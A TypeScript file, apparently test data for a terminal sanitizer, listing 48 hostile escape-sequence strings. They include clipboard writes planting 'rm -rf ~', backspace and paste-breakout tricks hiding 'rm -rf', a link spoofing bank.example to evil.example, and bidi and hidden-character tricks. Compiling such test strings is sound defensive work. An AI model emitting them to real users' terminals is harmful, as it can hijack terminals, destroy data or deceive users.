/*
Forty-eight ways in which text has commanded terminals, deceived readers or hidden what follows it: clearing, coloring, titles, clipboards, links, queries that type answers, images, modes, marks that turn or hide.
*/
const escape = '\u{1B}';
const bell = '\u{7}';
const end = `${escape}\\`;

/**
The strings, by what they try.
*/
export const hostileStrings: ReadonlyArray<readonly [aim: string, text: string]> = [
	['clear the screen', `${escape}[2J${escape}[H`],
	['bleed color', `${escape}[31mred`],
	['conceal', `${escape}[8mhidden${escape}[0m`],
	['draw a button', `${escape}[7m y ${escape}[0m`],
	['overwrite the line above', `${escape}[1A\rharmless`],
	['overwrite with a carriage return', 'safe\rEVIL'],
	['overwrite with backspaces', 'rm -rf\b\b\b\b\b\bls'],
	['set the title', `${escape}]0;title${bell}`],
	['have the title typed', `${escape}[21t`],
	['have the icon typed', `${escape}[20t`],
	['have the cursor reported', `${escape}[6n`],
	['have the device reported', `${escape}[c`],
	['have the version reported', `${escape}[>0q`],
	['have the answerback sent', '\u{5}'],
	['ask for settings', `${escape}P$qm${end}`],
	['ask for capabilities', `${escape}P+q544e${end}`],
	['write the clipboard', `${escape}]52;c;cm0gLXJmIH4=${bell}`],
	['read the clipboard', `${escape}]52;c;?${bell}`],
	['show one link and open another', `${escape}]8;;https://evil.example/${bell}bank.example${escape}]8;;${bell}`],
	['never close a link', `${escape}]8;;https://evil.example${bell}`],
	['nest a clipboard in a link', `${escape}]8;;${escape}]52;c;cm0=${bell}b`],
	['nest a title in a link', `${escape}]8;;${escape}]0;PWNED${bell}b`],
	['nest a command in a link', `${escape}]8;id=1:x=${escape}[2J;https://e.example${bell}t`],
	['fool a filter of links', `${escape}]8;;${escape}\u{0}m${escape}[>0q`],
	['never end a title', `${escape}]0;${'unterminated '.repeat(800)}`],
	['never end a device string', `${escape}Punterminated`],
	['end in an escape', escape],
	['end in half a sequence', `${escape}[`],
	['flood with parameters', `${escape}[${'1;'.repeat(20_000)}m`],
	['clear in C1', '\u{9B}2J'],
	['write the clipboard in C1', '\u{9D}52;c;cm0=\u{9C}'],
	['ask for settings in C1', '\u{90}$qm\u{9C}'],
	['ask for a color', `${escape}]4;0;?${bell}${escape}]10;?${bell}`],
	['ask for the font', `${escape}]50;?${bell}`],
	['notify', `${escape}]9;x${bell}${escape}]777;notify;a;b${bell}${escape}]99;;x${end}`],
	['show an image of iTerm', `${escape}]1337;File=inline=1:AAAA${bell}`],
	['show an image of kitty', `${escape}_Ga=T;AAAA${end}`],
	['show an image in sixels', `${escape}Pq#0~${end}`],
	['leave the screen, take the mouse', `${escape}[?1049l${escape}[?25l${escape}[?1003h${escape}[?2004l`],
	['reset, fill, draw lines', `${escape}c${escape}#8${escape}(0\u{E}`],
	['break out of a paste', `${escape}[200~ x ${escape}[201~ rm -rf`],
	['hide in entities', '&#27;]0;x&#7; ~~&**#27;**[31m~~ &#x9b;2J %1b[2J'],
	['turn the order of reading', '\u{202E}gpj.exe \u{2066}unbalanced \u{200F}\u{200F}\u{200F}'],
	['write in tags', '\u{E0041}\u{E0042}\u{E0043}p\u{200B}a\u{200B}y\u{FEFF}ment'],
	['heap marks', `a${'\u{301}'.repeat(10_000)}`],
	['have a title of nothing', '\u{115F}\u{3164}\u{FFA0}'],
	['abort in the middle', `${escape}${escape}${escape}]0;x${bell}${escape}]0;a\u{18}b\u{1A}c`],
	['pass through tmux', `${escape}Ptmux;${escape}${escape}]52;c;AA==${bell}${end}${escape}]133;C${bell}${escape}]633;E;cmd${bell}`],
];
